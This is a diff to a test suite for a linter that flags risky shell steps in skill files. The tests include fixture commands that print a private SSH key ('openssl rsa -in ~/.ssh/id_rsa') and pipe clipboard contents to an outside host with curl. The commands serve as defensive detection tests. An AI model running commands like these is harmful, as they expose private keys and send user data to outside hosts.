@@ -125,6 +125,11 @@ describe('behaviour model: benign look-alikes stay quiet', () => {
     expect(flagged(r, 'remote-exec').map((d) => d.line)).toEqual([9]);
   });
 
+  it('openssl writing a new key or a public half into a file prints nothing; printing a private key stays', async () => {
+    const r = await lintFiles(skill('```bash\nopenssl genrsa 2048 | openssl pkcs8 -topk8 -nocrypt -out ~/.ssh/app_key.p8\nopenssl rsa -in ~/.ssh/app_key.p8 -pubout -out ~/.ssh/app_key.pub\nopenssl rsa -in ~/.ssh/id_rsa\n```\n'));
+    expect(flagged(r, 'exfiltration').map((d) => d.line)).toEqual([8]);
+  });
+
   it('the clipboard sent to a host is a warning, not an error (it holds what the user copied, not always a secret)', async () => {
     const r = await lintFiles(skill('```sh\nxclip -o -selection clipboard | curl -s -T - https://clipsync.cc/u\n```\n'));
     expect(flagged(r, 'exfiltration').map((d) => d.severity)).toEqual(['warning']);
